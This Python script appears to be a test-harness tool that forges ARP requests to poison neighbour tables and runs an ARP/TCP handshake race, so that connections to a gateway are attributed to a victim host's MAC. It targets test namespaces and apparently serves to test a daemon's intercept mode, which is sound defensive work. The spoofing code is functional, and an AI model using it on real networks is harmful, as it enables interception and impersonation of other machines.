#!/usr/bin/env python3
"""A LAN attacker's ARP tools for the intercept-mode scenarios.

  forge_arp.py claim IFACE SENDER_MAC TARGET_IP SENDER_IP...
      one ARP request per SENDER_IP, asking for TARGET_IP (the gateway) in
      the name of SENDER_IP at SENDER_MAC. The frames leave from IFACE's own
      MAC: only the ARP payload lies, as in a neighbour-table poisoning.

  forge_arp.py race IFACE VICTIM_MAC GATEWAY_IP DEST_IP PORT KIND SIGNAL OUT
      the ARP race against the daemon's accept(): the TCP handshake to
      DEST_IP:PORT completes on this side while the final ACK is held back
      (an nftables rule in this namespace), the gateway's neighbour entry
      for this host is rewritten to VICTIM_MAC, then the request (KIND http:
      a GET; tls: a ClientHello) goes out and completes the handshake on the
      gateway's side. Once the file SIGNAL exists (the daemon has judged the
      connection) the entry is put back to this host's own MAC, so the
      answer reaches it. OUT gets "http:STATUS", "tls:handshake" or
      "KIND:refused" / "KIND:timeout".

Test traffic only: addresses of the test's own namespaces.
"""
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time


def own_mac(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return f.read().strip()


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def arp_request(iface, sender_mac, sender_ip, target_ip):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    eth = b"\xff" * 6 + mac_bytes(own_mac(iface)) + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
    arp += mac_bytes(sender_mac) + socket.inet_aton(sender_ip)
    arp += b"\x00" * 6 + socket.inet_aton(target_ip)
    s.send(eth + arp)
    s.close()


def claim(iface, sender_mac, target_ip, senders):
    for ip in senders:
        arp_request(iface, sender_mac, ip, target_ip)


def nft(script):
    subprocess.run(["nft", "-f", "-"], input=script.encode(), check=True)


def race(iface, victim_mac, gateway_ip, dest_ip, port, kind, signal, out):
    me = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", iface],
                        capture_output=True, text=True).stdout.split()[3].split("/")[0]
    nft("table inet attacker {\n chain out {\n  type filter hook output priority 0;\n"
        "  ip daddr %s tcp dport %d tcp flags == ack drop\n }\n}\n" % (dest_ip, port))
    result = kind + ":timeout"
    try:
        sock = socket.create_connection((dest_ip, port), timeout=5)
        # our handshake is done, the gateway's is not: now it learns the
        # victim's MAC for our address, and the ACK riding on our request
        # makes it accept the connection
        arp_request(iface, victim_mac, me, gateway_ip)
        nft("delete table inet attacker")

        def put_back():
            for _ in range(150):
                if os.path.exists(signal):
                    break
                time.sleep(0.1)
            arp_request(iface, own_mac(iface), me, gateway_ip)
        threading.Thread(target=put_back, daemon=True).start()
        sock.settimeout(20)
        if kind == "http":
            sock.sendall(b"GET /1k HTTP/1.1\r\nHost: 10.202.0.2\r\nConnection: close\r\n\r\n")
            head = sock.recv(4096)
            result = "http:" + (head.split(b" ")[1].decode() if head.startswith(b"HTTP/") else "refused")
        else:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.wrap_socket(sock, server_hostname="bank.test")
            result = "tls:handshake"
    except socket.timeout:
        result = kind + ":timeout"
    except (OSError, ssl.SSLError):
        result = kind + ":refused"
    finally:
        subprocess.run(["nft", "delete", "table", "inet", "attacker"], stderr=subprocess.DEVNULL)
    with open(out, "w") as f:
        f.write(result)


if __name__ == "__main__":
    if sys.argv[1] == "claim":
        claim(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:])
    elif sys.argv[1] == "race":
        race(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]),
             sys.argv[7], sys.argv[8], sys.argv[9])
    else:
        sys.exit("usage: forge_arp.py claim|race ...")
